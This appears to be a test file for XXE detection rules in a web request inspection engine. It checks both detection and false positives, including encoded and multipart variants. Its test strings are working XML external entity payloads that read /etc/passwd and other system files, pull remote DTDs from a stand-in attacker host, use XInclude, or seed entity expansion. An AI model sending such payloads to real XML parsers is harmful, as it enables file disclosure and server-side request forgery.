import { test } from 'node:test';
import assert from 'node:assert/strict';
import { rules } from './xxe.ts';
import { matchAll, timeAll, ruleMetaProblems, checkAll, testScope } from './lib/testing.ts';
import type { InspectionScope, BodyInfo } from '../types.ts';
import { testContext } from './lib/testing.ts';
import { gzipSync } from 'node:zlib';
import { RequestContext } from '../../core/context.ts';
import { validatePolicy } from '../../config/load.ts';
import { PayloadEngine } from '../engine.ts';
import { ruleRegistry } from '../registry.ts';

test('rule metadata is well formed', () => {
  assert.deepEqual(ruleMetaProblems(rules), []);
});

test('detects external entities, parameter entities, internal entities, external DTDs and XInclude', () => {
  const cases: [string, string][] = [
    ['<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/hostname">]><r>&x;</r>', '937100'],
    ['<!DOCTYPE r [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]>', '937100'],
    ['<!DOCTYPE r [<!ENTITY   %   p "x">]>', '937100'],
    ['<!ENTITY x PUBLIC "-//A//B" "http://evil.example/e">', '937100'],
    ['<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;">]>', '937110'],
    ['<!DOCTYPE r SYSTEM "http://evil.example/r.dtd"><r/>', '937120'],
    ['<r xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file:///etc/hosts" parse="text"/></r>', '937120'],
    ['%3C!ENTITY%20x%20SYSTEM%20%22file%3A%2F%2F%2Fetc%2Fhosts%22%3E', '937100'],
    ['&lt;!ENTITY x SYSTEM "file:///a"&gt;', '937100'],
  ];
  for (const [v, id] of cases) assert.ok(matchAll(rules, v, 'json').includes(id), `missed ${id} on ${v}`);
});

test('does not flag HTML doctypes and ordinary XML', () => {
  const benign = [
    '<!DOCTYPE html><html><body><p>Bonjour</p></body></html>',
    '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd">',
    '<?xml version="1.0"?><order><id>1</id></order>',
    'The ENTITY keyword declares an entity',
    '<!-- a comment -->',
  ];
  for (const b of benign) assert.deepEqual(matchAll(rules, b, 'json'), [], `false positive on ${b}`);
  assert.ok(matchAll(rules, '<!DOCTYPE note PUBLIC "-//X//Y" "http://evil.example/n.dtd">', 'json', 2).includes('937121'));
});

test('reads the XML body facts from the engine', () => {
  const base = testScope([]);
  const scope: InspectionScope = { ...base, phase: 'body', body: { kind: 'xml', contentType: 'application/xml', truncated: false, limited: false, xmlDoctype: true, xmlEntities: 1, xmlExternalEntity: true, text: '' } };
  assert.equal(checkAll(rules, scope).length, 1);
  const clean: InspectionScope = { ...base, phase: 'body', body: { kind: 'xml', contentType: 'application/xml', truncated: false, limited: false, text: '<a/>' } };
  assert.deepEqual(checkAll(rules, clean), []);
});

test('linear time on 64 KiB pathological input', () => {
  const inputs = ['<!'.repeat(32768), '<!entity '.repeat(7281), '<!doctype x'.repeat(5957), '<!ENTITY %'.repeat(6553), 'xinclude'.repeat(8192)];
  for (const s of inputs) {
    const ms = timeAll(rules, s, ['json', 'xml', 'body']);
    assert.ok(ms < 2000, `took ${ms} ms`);
  }
});

const XXE = '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>';
const SVG_W3C = '<?xml version="1.0"?><!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd"><svg xmlns="http://www.w3.org/2000/svg"/>';
const PLIST = '<?xml version="1.0"?><!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "http://www.apple.com/DTDs/PropertyList-1.0.dtd"><plist version="1.0"><dict/></plist>';

/** A body-phase scope over raw bytes, with the facts the extractor would give for `kind`. */
function bodyScope(bytes: Buffer, kind: BodyInfo['kind'], ct: string, facts: Partial<BodyInfo> = {}): InspectionScope {
  const ctx = testContext('POST', '/upload', [['Content-Type', ct]]);
  ctx.body = { bytes, truncated: false, declaredLength: bytes.length };
  return { ...testScope([], ctx), phase: 'body', body: { kind, contentType: ct, truncated: false, limited: false, text: bytes.toString('utf8'), ...facts } };
}

test('detects PUBLIC doctypes whose system identifier is not a standard DTD', () => {
  assert.ok(matchAll(rules, '<!DOCTYPE r PUBLIC "-//X//Y" "http://evil.example/r.dtd"><r/>', 'json').includes('937122'));
  assert.ok(matchAll(rules, "<!DOCTYPE html PUBLIC '-//W3C//DTD XHTML 1.0//EN' 'file:///etc/passwd'>", 'json').includes('937122'));
  for (const b of [SVG_W3C, PLIST, '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd">', '<!DOCTYPE r PUBLIC "-//X//Y">']) {
    assert.ok(!matchAll(rules, b, 'json').includes('937122'), `false positive on ${b}`);
  }
});

test('an XML body with a W3C or Apple PUBLIC doctype is not an external entity', () => {
  for (const b of [SVG_W3C, PLIST]) {
    assert.deepEqual(checkAll(rules, bodyScope(Buffer.from(b), 'xml', 'image/svg+xml', { xmlDoctype: true, xmlExternalEntity: true })), [], b);
  }
  const evil = '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://evil.example/svg11.dtd"><svg/>';
  assert.equal(checkAll(rules, bodyScope(Buffer.from(evil), 'xml', 'image/svg+xml', { xmlDoctype: true, xmlExternalEntity: true })).length, 1);
  const mixed = SVG_W3C.replace('<svg', '<!ENTITY x SYSTEM "file:///a"><svg');
  assert.ok(checkAll(rules, bodyScope(Buffer.from(mixed), 'xml', 'image/svg+xml', { xmlDoctype: true, xmlExternalEntity: true })).length > 0);
});

/** The xxe rules that fire on a body through the real extractor and engine (every rule of the registry). */
function xxeSignals(bytes: Buffer, headers: Record<string, string>): string[] {
  const e = new PayloadEngine(validatePolicy({}).detection, ruleRegistry());
  const c = new RequestContext({ id: 't', clientIp: '192.0.2.1', clientKey: '192.0.2.1', peerIp: '192.0.2.1', method: 'POST', target: '/upload', headers });
  c.body = { bytes, truncated: false };
  return [...e.inspectRequest(c), ...e.inspectBody(c)].filter((s) => s.category === 'xxe').map((s) => s.ruleId);
}

test('declarations are reported once whatever the body encoding: 937140 for binary-typed and multipart file bodies, the XML rules otherwise', () => {
  const le = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(XXE, 'utf16le')]);
  const be = Buffer.from(Buffer.concat([Buffer.from([0xfe, 0xff]), Buffer.from(XXE, 'utf16le').swap16()]));
  const mp = `--B\r\nContent-Disposition: form-data; name="f"; filename="a.png"\r\nContent-Type: image/png\r\n\r\n${XXE}\r\n--B--\r\n`;
  const cases: [string, Buffer, Record<string, string>, string][] = [
    ['UTF-16LE XML', le, { 'content-type': 'application/xml' }, 'xxe.937130'],
    ['UTF-16BE XML', be, { 'content-type': 'application/xml' }, 'xxe.937130'],
    ['UTF-16 as text/plain', le, { 'content-type': 'text/plain' }, 'xxe.937100'],
    ['gzip UTF-16 XML', gzipSync(le), { 'content-type': 'application/xml', 'content-encoding': 'gzip' }, 'xxe.937130'],
    ['UTF-16 octet-stream', le, { 'content-type': 'application/octet-stream' }, 'xxe.937140'],
    ['UTF-16 without BOM, octet-stream', Buffer.from(XXE, 'utf16le'), { 'content-type': 'application/octet-stream' }, 'xxe.937140'],
    ['gzip UTF-16 octet-stream', gzipSync(le), { 'content-type': 'application/octet-stream', 'content-encoding': 'gzip' }, 'xxe.937140'],
    ['UTF-8 octet-stream', Buffer.from(XXE), { 'content-type': 'application/octet-stream' }, 'xxe.937140'],
    ['multipart file part labelled image/png', Buffer.from(mp), { 'content-type': 'multipart/form-data; boundary=B' }, 'xxe.937140'],
    // junk before the UTF-16 markup: no BOM or NUL pattern at the start, so the extractor reads it as UTF-8
    ['UTF-16 after 4 junk bytes, XML', Buffer.concat([Buffer.from([0xc3, 0xbf, 0xc3, 0xbe]), Buffer.from(XXE, 'utf16le')]), { 'content-type': 'application/xml' }, 'xxe.937140'],
    ['UTF-16 after 4 junk bytes, XML declared UTF-16', Buffer.concat([Buffer.from([0xc3, 0xbf, 0xc3, 0xbe]), Buffer.from(XXE, 'utf16le')]), { 'content-type': 'application/xml; charset=utf-16' }, 'xxe.937140'],
    ['UTF-16 after 4 junk bytes, octet-stream', Buffer.concat([Buffer.from('abcd'), Buffer.from(XXE, 'utf16le')]), { 'content-type': 'application/octet-stream' }, 'xxe.937140'],
  ];
  for (const [name, bytes, headers, rule] of cases) assert.deepEqual(xxeSignals(bytes, headers), [rule], name);
});

test('does not flag ordinary binary, multipart or UTF-16 bodies', () => {
  const svgUpload = `--B\r\nContent-Disposition: form-data; name="f"; filename="a.svg"\r\nContent-Type: application/octet-stream\r\n\r\n${SVG_W3C}\r\n--B--\r\n`;
  const cases: [Buffer, BodyInfo['kind'], string][] = [
    [Buffer.from(svgUpload), 'multipart', 'multipart/form-data; boundary=B'],
    [Buffer.from(PLIST), 'binary', 'application/octet-stream'],
    [Buffer.from('<?xml version="1.0"?><r>a</r>', 'utf16le'), 'xml', 'application/xml'],
    [Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x3c, 0x00, 0x21, 0x01]), 'binary', 'image/png'],
    [Buffer.from('{"a":"<!ENTITY x SYSTEM \'f\'>"}'), 'json', 'application/json'],
  ];
  for (const [b, k, ct] of cases) assert.deepEqual(checkAll(rules, bodyScope(b, k, ct)), [], `${k} ${ct}`);
});

test('linear time on 64 KiB pathological input (PUBLIC doctypes, UTF-16 bodies)', () => {
  const inputs = ['<!doctype x public "a" "'.repeat(2730), '<!doctype x public '.repeat(3449), '<!doctype x public "' + 'a'.repeat(65000)];
  for (const s of inputs) {
    const ms = timeAll(rules, s, ['json', 'xml', 'body']);
    assert.ok(ms < 2000, `took ${ms} ms`);
  }
  const t0 = performance.now();
  checkAll(rules, bodyScope(Buffer.from('<!'.repeat(32768), 'utf16le'), 'xml', 'application/xml'));
  checkAll(rules, bodyScope(Buffer.from('<!doctype x public "a" "b">'.repeat(2427)), 'binary', 'application/octet-stream'));
  assert.ok(performance.now() - t0 < 2000);
});
